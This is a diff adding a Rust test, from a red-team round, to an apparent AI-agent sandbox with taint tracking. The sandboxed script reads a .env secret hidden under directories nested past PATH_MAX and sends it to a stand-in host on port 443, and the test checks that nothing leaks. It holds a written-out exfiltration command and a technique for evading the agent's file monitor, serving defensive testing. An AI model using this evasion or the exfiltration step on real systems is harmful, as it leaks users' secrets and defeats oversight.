@@ -4116,3 +4116,71 @@ fn isolated_files_a_secret_on_a_mount_made_during_the_session_taints() {
     assert!(out.contains("socket: errno="), "not tainted\n{}", show(&o));
     kernel_decided(&o);
 }
+
+/// watcher-long-path (red team round 5): a secret an outside process creates
+/// during the session in a directory whose path is longer than `PATH_MAX`, which
+/// `readlink` of `/proc/self/fd/N` cannot name: the watcher names it by walking
+/// up, marks it, and the agent's read (by relative opens the kernel decides)
+/// taints; nothing read leaves. In every mode the read must taint.
+#[test]
+fn isolated_files_a_secret_created_outside_deeper_than_path_max_taints() {
+    let ip = "127.77.41.40";
+    let server = Tcp::new(ip, 443);
+    let f = Fixture::new("iso-longpath").with_attack();
+    let comp = "d".repeat(250);
+    let depth = 18; // 18 × 251 bytes: past PATH_MAX (4,096)
+    let cds = format!("for i in $(seq {depth}); do cd {comp} || exit 9; done");
+    let made = std::process::Command::new("/bin/bash")
+        .arg("-c")
+        .arg(format!(
+            "cd {} && for i in $(seq {depth}); do mkdir {comp} && cd {comp} || exit 9; done",
+            f.ws.display()
+        ))
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let attack = f.path("attack");
+    let script = format!(
+        "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; while [ ! -e written ]; do sleep 0.02; done; sleep 1; \
+         {cds}; {attack} isoleak plain .env {ip} 443"
+    );
+    // bash: dash's `cd` refuses a path past PATH_MAX.
+    let mut cmd = f.command(&[], &["/bin/bash", "-c", &script]);
+    cmd.stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let child = cmd.spawn().unwrap();
+    let start = std::time::Instant::now();
+    let mut got = String::new();
+    while start.elapsed() < Duration::from_secs(120) && !got.contains("PRE-TAINT") {
+        got.push_str(&server.received());
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert!(
+        got.starts_with("PRE-TAINT-CHANNEL-OK"),
+        "the sandbox did not get to its send: {got:?}"
+    );
+    // The outside process, during the session: the secret, deep down.
+    let wrote = std::process::Command::new("/bin/bash")
+        .arg("-c")
+        .arg(format!(
+            "cd {} && {cds} && echo LEAK:SECRET-deep-r5 > .env && touch {}",
+            f.ws.display(),
+            f.path("written")
+        ))
+        .status()
+        .unwrap();
+    assert!(wrote.success());
+    let o = wait_with_deadline(child, Duration::from_secs(120));
+    got.push_str(&server.received());
+    // Mediated opens resolve a relative path through the agent's working
+    // directory's name, which is past PATH_MAX here: the monitor cannot open it
+    // (ENAMETOOLONG, fail closed; noted in docs/threat-model.md).
+    let read = stdout(&o).contains("isoleak read: 20");
+    assert!(
+        read || (!kernel_opens() && stdout(&o).contains("isoleak open: errno=36")),
+        "the secret was not read\n{}",
+        show(&o)
+    );
+    assert!(!got.contains("LEAK:"), "the secret left: {got:?}\n{}", show(&o));
+    kernel_decided(&o);
+}
